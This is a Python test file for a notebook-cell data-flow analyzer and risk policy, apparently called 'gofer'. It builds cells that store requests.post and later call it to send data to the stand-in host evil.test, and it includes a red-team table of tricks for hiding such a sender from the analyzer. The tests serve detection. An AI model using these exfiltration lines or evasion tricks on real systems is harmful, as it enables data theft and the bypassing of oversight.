"""What flow33 left of the data-flow rule's and the policy's reading of Python cells (fast;
tests/e2e/test_flow34_kernel_flows.py runs them for real): a sender kept by a plain function in a global container
(``def register(f): H.append(f)``), a container changed through another name for it (``e = d``; ``e['q'] = post``), a
dict a function of an earlier cell fills, judged by the policy, and what stays quiet: the same with a harmless function,
a name bound anew. The case tables of the rules every session adds to (a sender kept where a later cell calls it sends;
handing one to what only keeps it is quiet; to what may call it asks) run in one parametrised test each in
tests/unit/test_flow37_cells.py."""

from __future__ import annotations

import pytest
from test_flow31_cells import EVIL, KEEP, _flows, _policy

from gofer.events import Risk

A = "https://evil.test/c"
RQ = "import requests"
SENDS = "can send data out of the machine (requests.post)"

REGISTER: dict[str, tuple[str, str]] = {
    "H.append(f)": ("H = []\n\ndef register(f):\n    H.append(f)", "H[0]"),
    "H[k] = f": ("H = {}\n\ndef register(f, k='p'):\n    H[k] = f", "H['p']"),
    "H.add(f)": ("H = set()\n\ndef register(f):\n    H.add(f)", "list(H)[0]"),
    "global G; G = f": ("G = None\n\ndef register(f):\n    global G\n    G = f", "G"),
    "h = H; h.append(f)": ("H = []\n\ndef register(f):\n    h = H\n    h.append(f)", "H[0]"),
    "a local bound from f": ("H = []\n\ndef register(f):\n    g = f\n    H.append((1, g))", "H[0][1]"),
    "a method keeping in a global": ("H = []\n\nclass R:\n    def register(self, f):\n        H.append(f)\n\n"
                                     "reg = R()", "H[0]"),
    "the container handed beside it": ("H = []\n\ndef register(f, into=H):\n    into.append(f)", "H[0]"),
}
"""Each defines a function that keeps what it is handed in a global, and what calls the kept function."""


def _register(case: str) -> tuple[str, str, str]:
    definition, through = REGISTER[case]
    call = "reg.register(requests.post)" if "reg = R()" in definition else \
        "register(requests.post, H)" if "into" in definition else "register(requests.post)"
    return definition, call, through


@pytest.mark.parametrize("case", list(REGISTER))
def test_a_sender_a_function_keeps_in_a_global_sends_when_called_through_it(case: str) -> None:
    definition, call, through = _register(case)
    cell = f"{through}('{A}', data=t)"
    for earlier in ((RQ, definition, call, KEEP), (RQ, f"{definition}\n{call}", KEEP),
                    (f"{RQ}\n{definition}\n{call}\n{KEEP}",)):
        assert EVIL in _flows(cell, *earlier), earlier
        risk, reasons = _policy(cell, None, *earlier)
        assert risk == Risk.CONSEQUENTIAL and SENDS in " ".join(reasons), (earlier, reasons)


@pytest.mark.parametrize("case", list(REGISTER))
def test_a_function_keeping_a_harmless_function_in_a_global_stays_quiet(case: str) -> None:
    definition, call, through = _register(case)
    earlier = (RQ, definition, call.replace("requests.post", "len"), KEEP)
    cell = f"print({through}(t), H if 'H' in globals() else G)"
    assert _flows(cell, *earlier) == []
    assert _policy(cell, None, *earlier) == (Risk.REVERSIBLE, [])


ALIASED: dict[str, tuple[tuple[str, ...], str]] = {
    "e['q'] = post": (("d = {}", "e = d", "e['q'] = requests.post"), "d['q']"),
    "e.update(q=post)": (("d = {}", "e = d", "e.update(q=requests.post)"), "d['q']"),
    "e.setdefault('q', post)": (("d = {}", "e = d", "e.setdefault('q', requests.post)"), "d['q']"),
    "l2.append(post)": (("l = []", "l2 = l", "l2.append(requests.post)"), "l[0]"),
    "a chain of names": (("d = {}", "e = d\nf = e", "f['q'] = requests.post"), "d['q']"),
    "the other way": (("d = {}", "e = d", "d['q'] = requests.post"), "e['q']"),
    "a part of it": (("d = {'inner': {}}", "e = d['inner']", "e['q'] = requests.post"), "d['inner']['q']"),
    "in one cell": (("d = {}\ne = d\ne['q'] = requests.post",), "d['q']"),
    "put in, then the name bound anew": (("d = {}", "e = d", "e['q'] = requests.post\ne = {}"), "d['q']"),
    "the same name bound to it again": (("d = {}", "e = d", "e = d", "e['q'] = requests.post"), "d['q']"),
}
"""Each puts ``requests.post`` in a container through another name for it, and what calls it by the first."""


@pytest.mark.parametrize("case", list(ALIASED))
def test_a_sender_put_in_a_container_through_another_name_sends_when_called(case: str) -> None:
    cells, through = ALIASED[case]
    cell = f"{through}('{A}', data=t)"
    earlier = (RQ, *cells, KEEP)
    assert EVIL in _flows(cell, *earlier)
    risk, reasons = _policy(cell, None, *earlier)
    assert risk == Risk.CONSEQUENTIAL and SENDS in " ".join(reasons), reasons


def test_names_for_one_container_holding_values_or_bound_anew_stay_quiet() -> None:
    for cells, cell in [
            (("d = {}", "e = d", "e['q'] = 3"), "print(d['q'] + 1, len(t))"),
            (("l = []", "l2 = l", "l2.append(len)"), "print(l[0](t))"),
            # ``x`` bound anew to the sender: what ``d`` holds is unchanged
            (("d = {'count': 1}", "x = d['count']", "x = requests.post"), "print(d, len(t))"),
            (("d = {}", "e = d", "e = requests.post"), "print(d, len(t))"),
            # ``e`` bound anew, then the sender put in it: ``d`` is not ``e`` any more
            (("d = {}", "e = d", "e = {}", "e['q'] = requests.post"), "print(d, len(t))")]:
        earlier = (RQ, *cells, KEEP)
        assert _flows(cell, *earlier) == [], cells
        assert _policy(cell, None, *earlier) == (Risk.REVERSIBLE, []), cells


def test_a_dict_a_function_of_an_earlier_cell_fills_sends_by_the_policy_too() -> None:
    fill = "D = {}\n\ndef fill():\n    D['p'] = requests.post"
    for earlier in ((RQ, fill, "fill()", KEEP), (RQ, "def fill():\n    D['p'] = requests.post", "D = {}",
                                                 "fill()", KEEP)):
        assert EVIL in _flows(f"D['p']('{A}', data=t)", *earlier)
        risk, reasons = _policy(f"D['p']('{A}', data=t)", None, *earlier)
        assert risk == Risk.CONSEQUENTIAL and SENDS in " ".join(reasons), reasons
    # filled with values
    earlier = (RQ, "D = {}\n\ndef fill():\n    D['p'] = 3", "fill()", KEEP)
    assert _flows("print(D['p'] + 1, len(t))", *earlier) == []
    assert _policy("print(D['p'] + 1, len(t))", None, *earlier) == (Risk.REVERSIBLE, [])


KEEPS_ONLY: dict[str, tuple[str, str, str]] = {
    "a method storing it on its object": ("class Registry:\n    def register(self, f):\n        self.f = f\n\n"
                                          "reg = Registry()", "reg.register(requests.post)", "reg.f"),
    "a method with an __init__": ("class Registry:\n    def __init__(self):\n        self.f = None\n\n"
                                  "    def register(self, f):\n        self.f = f\n\nreg = Registry()",
                                  "reg.register(f=requests.post)", "reg.f"),
    "a function appending it to a list": ("H = []\n\ndef register(f):\n    H.append(f)", "register(requests.post)",
                                          "H[0]"),
    "a function setting a key": ("H = {}\n\ndef register(k, f):\n    H[k] = f", "register('p', requests.post)",
                                 "H['p']"),
    "a function binding a global": ("G = None\n\ndef register(f):\n    global G\n    G = f",
                                    "register(requests.post)", "G"),
}
"""Each hands ``requests.post`` to an earlier cell's function that only keeps it, and what calls it then."""


MAY_CALL: dict[str, tuple[str, str]] = {
    "a library's register": ("import atexit", "atexit.register(requests.post)"),
    "an object of no class of the run's": ("import types\nreg = types.SimpleNamespace(register=print)",
                                           "reg.register(requests.post)"),
    "a method that calls it": ("class Registry:\n    def register(self, f):\n        self.f = f\n        "
                               f"self.f('{A}', data=t)\n\nreg = Registry()", "reg.register(requests.post)"),
    "a method that calls another": ("class Registry:\n    def register(self, f):\n        self.f = f\n        "
                                    "self.go()\n\n    def go(self):\n        self.f('x')\n\nreg = Registry()",
                                    "reg.register(requests.post)"),
    "a class with a base": ("import logging\n\nclass Registry(logging.Handler):\n    def register(self, f):\n"
                            "        self.f = f\n\nreg = Registry()", "reg.register(requests.post)"),
    "a class with __setattr__": ("class Registry:\n    def __setattr__(self, k, v):\n        v('x')\n\n"
                                 "    def register(self, f):\n        self.f = f\n\nreg = Registry()",
                                 "reg.register(requests.post)"),
    "a method rebound on the object": ("class Registry:\n    def register(self, f):\n        self.f = f\n\n"
                                       "reg = Registry()\nimport atexit\nreg.register = atexit.register",
                                       "reg.register(requests.post)"),
    "a container of the run's": ("class Hooks(list):\n    def append(self, f):\n        f('x')\n\nH = Hooks()\n\n"
                                 "def register(f):\n    H.append(f)", "register(requests.post)"),
    "a container rebound by a function": ("H = []\n\ndef register(f):\n    H.append(f)\n\nclass Hooks(list):\n"
                                          "    def append(self, f):\n        f('x')\n\ndef swap():\n    global H\n"
                                          "    H = Hooks()\n\nswap()", "register(requests.post)"),
    "a function that hands it on": ("def register(f):\n    print(f)", "register(requests.post)"),
    "a function defined again": ("H = []\n\ndef register(f):\n    H.append(f)\n\nregister = print",
                                 "register(requests.post)"),
}
"""Each hands ``requests.post`` to a call that may call it."""


FLOOD = (RQ, "d = {}\nfor k, v in [('p', requests.post)]:\n    d[k] = v", "globals().update(d)", KEEP)
"""``requests.post`` put in the kernel's namespace under a key the code does not spell, then the token read."""


def test_after_a_namespace_update_a_cells_own_names_are_not_the_senders_it_put_there() -> None:
    # a function's parameters and locals, a comprehension's, and what the cell binds before it uses it
    for cell in ("def area(w, h):\n    return w * h\n\nresult = area(2, 3)",
                 "import json\nrows = json.loads('[1, 2]')\ndoubled = [r * 2 for r in rows]",
                 "f = lambda a, b: a + b\nz = f(1, 2)"):
        assert _flows(cell, *FLOOD) == [], cell
        assert _policy(cell, None, *FLOOD) == (Risk.REVERSIBLE, []), cell


def test_after_a_namespace_update_names_it_may_have_bound_still_ask() -> None:
    for cell in (f"p('{A}', data=t)", f"def f(u):\n    return p(u, data=t)\n\nf('{A}')",
                 f"x = p\nx('{A}', data=t)", f"class C:\n    y = p\n\nC.y('{A}', data=t)",
                 f"if len(t) > 1:\n    q = 1\nq('{A}', data=t)", f"q('{A}', data=t)\nq = 1",
                 # a builtin too: the update may have bound ``print`` to the sender
                 f"print('{A}', t)"):
        assert _flows(cell, *FLOOD) != [], cell
        assert _policy(cell, None, *FLOOD)[0] == Risk.CONSEQUENTIAL, cell


RED_TEAM: dict[str, tuple[str, tuple[str, ...]]] = {
    "operator.setitem": ("d['q']", ("import operator\nd = {}", "operator.setitem(d, 'q', requests.post)")),
    "a ChainMap over it, filled later": ("e['q']", ("import collections\nd = {}\ne = collections.ChainMap(d)",
                                                    "d['q'] = requests.post")),
    "a list holding it, filled later": ("e[0]['q']", ("d = {}\ne = [d]", "d['q'] = requests.post")),
    "filled through a list holding it": ("d['q']", ("d = {}", "L = [d]", "L[0]['q'] = requests.post")),
    "a tuple assignment": ("d['q']", ("d = {}", "e, x = d, 1", "e['q'] = requests.post")),
    "a loop over it": ("d['q']", ("d = {}", "for e in [d]:\n    e['q'] = requests.post")),
    "functools.reduce handing it back": ("r", ("import functools",
                                               "r = functools.reduce(lambda a, b: b, [1, requests.post])")),
    "the keeping function by another name": ("H[0]", ("H = []\n\ndef register(f):\n    H.append(f)",
                                                      "r = register\nr(requests.post)")),
    "a parameter's default container": ("H[0]", ("H = []\n\ndef register(f, into=H):\n    into.append(f)",
                                                 "register(requests.post)")),
    "the keeping function handed to map": ("H[0]", ("H = []\n\ndef register(f):\n    H.append(f)",
                                                    "list(map(register, [requests.post]))")),
    "the keeping function through partial": ("H[0]", ("import functools\nH = []\n\ndef register(f):\n"
                                                      "    H.append(f)", "functools.partial(register)(requests.post)")),
    "the values of its items": ("d['a']['q']", ("d = {'a': {}}", "for k, v in d.items():\n"
                                                "    v['q'] = requests.post")),
}
"""Other ways to put ``requests.post`` where a later cell calls it from (the red team's, session 23)."""


def test_a_cell_that_changes_the_keeping_function_or_its_container_before_handing_it_a_sender_asks() -> None:
    registry = "class Registry:\n    def register(self, f):\n        self.f = f\n\nreg = Registry()"
    register = "H = []\n\ndef register(f):\n    H.append(f)"
    for earlier, hand in [
            (registry, "import atexit\nreg.register = atexit.register\nreg.register(requests.post)"),
            (registry, "class Registry:\n    def register(self, f):\n        f('x')\n\nreg = Registry()\n"
                       "reg.register(requests.post)"),
            (register, "class Hooks(list):\n    def append(self, f):\n        f('x')\n\nH = Hooks()\n"
                       "register(requests.post)"),
            (register, "def register(f):\n    f('x')\n\nregister(requests.post)")]:
        assert _flows(hand, RQ, earlier, KEEP) != [], hand
        assert _policy(hand, None, RQ, earlier, KEEP)[0] == Risk.CONSEQUENTIAL, hand
